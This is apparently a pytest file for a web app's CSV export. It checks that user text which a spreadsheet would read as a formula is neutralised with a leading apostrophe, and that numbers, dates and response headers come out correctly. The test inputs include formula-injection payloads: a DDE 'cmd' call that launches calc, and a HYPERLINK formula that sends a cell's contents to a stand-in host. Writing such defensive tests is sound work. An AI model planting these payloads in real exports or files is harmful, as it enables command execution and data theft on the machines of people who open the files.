"""What people typed stays text when a spreadsheet opens it, and numbers stay numbers."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest

from apcase.web.spreadsheet import cell, csv_answer, csv_of

FORMULA = "1+1"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"{sign}{FORMULA}", id=f"begins-with-{ord(sign):x}")
        for sign in "=+-@\t\r\n＝＋－＠"
    ]
    + [
        pytest.param(f"{before}={FORMULA}", id=f"after-{'-'.join(f'{ord(c):x}' for c in before)}")
        for before in (
            " ", "   ", "\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff", "\u202e", "\u00ad",
            "\u2028", "\x0b", "\x0c", "\x00", "\x1f", " \t\u200b ",
        )
    ]
    + [
        pytest.param("=cmd|' /C calc'!A0", id="a-command"),
        pytest.param('=HYPERLINK("http://evil.invalid/?"&A1)', id="a-link"),
        pytest.param("@SUM(1,1)", id="a-function-of-old"),
        pytest.param("-2+3+cmd|'x'!A1", id="a-number-that-goes-on"),
        pytest.param("+44 7700 900123", id="a-telephone-number"),
        pytest.param("-", id="a-sign-alone"),
        pytest.param("\ttext", id="a-tab-before-text"),
    ],
)  # fmt: skip
def test_a_text_that_would_be_a_formula_gets_an_apostrophe(text):
    assert cell(text) == f"'{text}".replace("\x00", "")


@pytest.mark.parametrize(
    "text",
    ["Ash Brown", "O’Neil-Smith", "1-2", "a=b", "’", "", "'quoted", "12", "-12", "+12", "-0.5"],
)
def test_other_texts_stay_as_they_are(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (0, 0),
        (-3, -3),
        (Decimal("-12.50"), Decimal("-12.50")),
        (1.5, 1.5),
        (True, "yes"),
        (False, "no"),
        (date(2026, 11, 5), "2026-11-05"),
        (datetime(2026, 7, 1, 9, 30, tzinfo=UTC), "2026-07-01 10:30:00"),
    ],
)
def test_other_values(value, shown):
    assert (cell(value), type(cell(value))) == (shown, type(shown))


def test_a_file_reads_back_as_it_was_written():
    rows = [["Ash, “the” Brown", 3, "two\nlines; and = more"], ["=1", -4, 'a "quote"']]

    file = csv_of(["Name", "Number", "Note"], rows)

    assert file.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(StringIO(file.decode("utf-8-sig"), newline=""))) == [
        ["Name", "Number", "Note"],
        ["Ash, “the” Brown", "3", "two\nlines; and = more"],
        ["'=1", "-4", 'a "quote"'],
    ]


def test_numbers_stand_without_quotes():
    assert csv_of(["n"], [[-4], ["-4"]]).decode("utf-8-sig") == '"n"\r\n-4\r\n"-4"\r\n'


def test_a_heading_is_no_formula_either():
    assert csv_of(["=1"], []).decode("utf-8-sig") == '"\'=1"\r\n'


def test_it_is_a_file_to_keep_and_runs_nothing():
    response = csv_answer("who-has-looked", ["a"], [])

    assert response["Content-Disposition"] == 'attachment; filename="who-has-looked.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
